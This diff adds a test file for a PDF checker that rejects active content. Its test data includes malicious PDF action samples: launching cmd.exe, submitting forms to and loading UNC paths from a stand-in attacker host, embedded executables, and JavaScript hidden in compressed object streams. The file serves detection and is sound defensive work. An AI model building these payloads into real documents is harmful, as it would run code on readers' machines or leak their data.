@@ -1,0 +1,173 @@
+import { deflateSync } from "node:zlib";
+import PDFDocument from "pdfkit";
+import { expect, test } from "vitest";
+import { checkPdf } from "./check-pdf.ts";
+
+const pdf = (body: string) => Buffer.from(`%PDF-1.7\n${body}\n%%EOF`, "latin1");
+const verdict = (body: string) => checkPdf(pdf(body)) ?? "taken";
+const latin = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");
+const stream = (dictionary: string, data: Uint8Array | string) =>
+  `4 0 obj <<${dictionary}>> stream\n${typeof data === "string" ? data : latin(data)}\nendstream endobj`;
+
+/** Every kind of action that opens, sends or runs, and files that are named or carried (ISO 32000-2, 12.6.4 and 7.11). */
+const ACTIVE = [
+  "<</S /JavaScript /JS (app.alert(1))>>",
+  "<</S /Launch /F (cmd.exe)>>",
+  "<</S /SubmitForm /F <</FS /URL /F (https://evil.example/)>>>>",
+  "<</S /ImportData /F (x.fdf)>>",
+  "<</S /URI /URI (https://evil.example/)>>",
+  "<</S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]>>",
+  "<</S /GoToE /T <</R /C /N (a)>>>>",
+  "<</S /Thread /F (\\\\\\\\evil.example\\\\a) /D 0>>",
+  "<</S /Rendition /OP 0>>",
+  "<</S /Sound /Sound 5 0 R>>",
+  "<</S /Movie /T (a)>>",
+  "<</S /GoTo3DView /V /F>>",
+  "<</S /RichMediaExecute /TA 1 0 R>>",
+  "<</Subtype /FileAttachment /FS 5 0 R>>",
+  "<</Type /Filespec /UF (a.exe)>>",
+  "<</F (\\\\\\\\evil.example\\\\share\\\\a)>>",
+  "<</F <5C5C6576696C5C61>>>",
+  "<</Type /EmbeddedFile>>",
+  "<</XFA 5 0 R>>",
+];
+
+test.each(ACTIVE)("%s is refused as an opening action, of an annotation, and in any object", (action) => {
+  expect(verdict(`1 0 obj <</Type /Catalog /OpenAction ${action}>> endobj`)).toBe("has-scripts");
+  expect(verdict(`1 0 obj <</Type /Annot /Subtype /Link /A ${action}>> endobj`)).toBe("has-scripts");
+  expect(verdict(`7 0 obj ${action} endobj`)).toBe("has-scripts");
+});
+
+/** PNG's filters, each row with its number before it; what was before a predictor is what a reader sees. */
+function predicted(text: string, columns: number, filter: 0 | 1 | 2 | 4): Buffer {
+  const plain = Buffer.from(text.padEnd(Math.ceil(text.length / columns) * columns, " "), "latin1");
+  const rows: Buffer[] = [];
+  for (let at = 0; at < plain.length; at += columns) {
+    const row = Buffer.alloc(columns + 1);
+    row[0] = filter;
+    for (let n = 0; n < columns; n++) {
+      const left = n > 0 ? (plain[at + n - 1] ?? 0) : 0;
+      const up = plain[at + n - columns] ?? 0;
+      const corner = n > 0 ? (plain[at + n - columns - 1] ?? 0) : 0;
+      const guess = filter === 0 ? 0 : filter === 1 ? left : filter === 2 ? up : paeth(left, up, corner);
+      row[n + 1] = ((plain[at + n] ?? 0) - guess) & 255;
+    }
+    rows.push(row);
+  }
+  return Buffer.concat(rows);
+}
+
+function paeth(left: number, up: number, corner: number): number {
+  const estimate = left + up - corner;
+  const [a, b, c] = [left, up, corner].map((each) => Math.abs(estimate - each)) as [number, number, number];
+  if (a <= b && a <= c) return left;
+  return b <= c ? up : corner;
+}
+
+const HIDDEN = "5 0 6 40 <</Type /Catalog>> <</S /JavaScript /JS (x)>>";
+const PARMS = (predictor: number, columns: number) =>
+  `/DecodeParms <</Predictor ${predictor} /Columns ${columns}>>`;
+
+test.each([
+  [
+    "with a predictor of each kind",
+    stream(
+      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${PARMS(12, 7)}`,
+      deflateSync(predicted(HIDDEN, 7, 2)),
+    ),
+  ],
+  [
+    "with PNG's Sub",
+    stream(
+      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${PARMS(11, 9)}`,
+      deflateSync(predicted(HIDDEN, 9, 1)),
+    ),
+  ],
+  [
+    "with PNG's Paeth",
+    stream(
+      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${PARMS(15, 5)}`,
+      deflateSync(predicted(HIDDEN, 5, 4)),
+    ),
+  ],
+  [
+    "with PNG's None, which only cuts its words",
+    stream(
+      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${PARMS(10, 3)}`,
+      deflateSync(predicted(HIDDEN, 3, 0)),
+    ),
+  ],
+  ["without a type", stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.from(HIDDEN)))],
+  [
+    "without a type, with a predictor",
+    stream(`/N 1 /First 4 /Filter /FlateDecode ${PARMS(12, 7)}`, deflateSync(predicted(HIDDEN, 7, 2))),
+  ],
+  [
+    "of another type",
+    stream(
+      "/Type /XObject /Subtype /Image /N 1 /First 4 /Filter /FlateDecode",
+      deflateSync(Buffer.from(HIDDEN)),
+    ),
+  ],
+  ["without a type and not packed", stream("/N 1 /First 4", HIDDEN)],
+  [
+    "behind a comment",
+    stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.from(`%a\n${HIDDEN}`))),
+  ],
+])("a script in an object stream %s is found", (_, body) => {
+  expect(verdict(body)).toBe("has-scripts");
+});
+
+test.each([
+  [
+    "whose settings stand elsewhere",
+    stream("/N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R", deflateSync(Buffer.from(HIDDEN))),
+  ],
+  [
+    "that breaks off",
+    stream(
+      "/N 1 /First 4 /Filter /FlateDecode",
+      deflateSync(Buffer.from(HIDDEN.padEnd(500))).subarray(0, 60),
+    ),
+  ],
+])("an object stream %s is refused, because nobody knows what it holds", (_, body) => {
+  expect(verdict(body)).toBe("unreadable");
+});
+
+test("honest streams beside an outline are taken: pictures, fonts and profiles are no object streams", () => {
+  const outline = "3 0 obj <</Type /Outlines /First 5 0 R /N 3>> endobj ";
+  const noise = Buffer.from(Array.from({ length: 4000 }, (_, n) => (n * 7919) % 251));
+  expect(verdict(outline + stream("/Subtype /Image /Filter /DCTDecode", noise))).toBe("taken");
+  expect(verdict(outline + stream("/Subtype /Image /Filter /FlateDecode", deflateSync(noise)))).toBe("taken");
+  const rows = stream(`/Subtype /Image /Filter /FlateDecode ${PARMS(15, 100)}`, deflateSync(noise));
+  expect(verdict(outline + rows)).toBe("taken");
+  expect(verdict(outline + stream("/Filter [/ASCII85Decode /FlateDecode]", "9jqo^BlbD-~>"))).toBe("taken");
+  expect(
+    verdict(outline + stream("/Filter /FlateDecode", deflateSync(Buffer.from("0 0 612 792 re W n")))),
+  ).toBe("taken");
+});
+
+test("what opens a page of the document itself is taken, and the laboratory's own documents may have links", () => {
+  expect(
+    verdict("1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit] /A <</S /GoTo /D [3 0 R /Fit]>>>> endobj"),
+  ).toBe("taken");
+  expect(verdict("5 0 obj <</Type /Annot /F 4 /Font <</F 6 0 R /F1 7 0 R>>>> endobj")).toBe("taken");
+  const link = pdf("1 0 obj <</S /URI /URI (https://lab.example/)>> endobj");
+  expect(checkPdf(link, { links: "taken" })).toBeNull();
+  expect(checkPdf(pdf("1 0 obj <</S /SubmitForm>> endobj"), { links: "taken" })).toBe("has-scripts");
+});
+
+test("a document as a producer writes it is taken, and with a link it is not", async () => {
+  const make = (link: boolean) =>
+    new Promise<Buffer>((resolve) => {
+      const document = new PDFDocument({ pdfVersion: "1.7" });
+      const chunks: Buffer[] = [];
+      document.on("data", (chunk: Buffer) => chunks.push(chunk));
+      document.on("end", () => resolve(Buffer.concat(chunks)));
+      document.outline.addItem("Curriculum vitae");
+      document.text("Rina Pal, DMLT", link ? { link: "https://evil.example/" } : {});
+      document.end();
+    });
+  expect(checkPdf(await make(false))).toBeNull();
+  expect(checkPdf(await make(true))).toBe("has-scripts");
+});
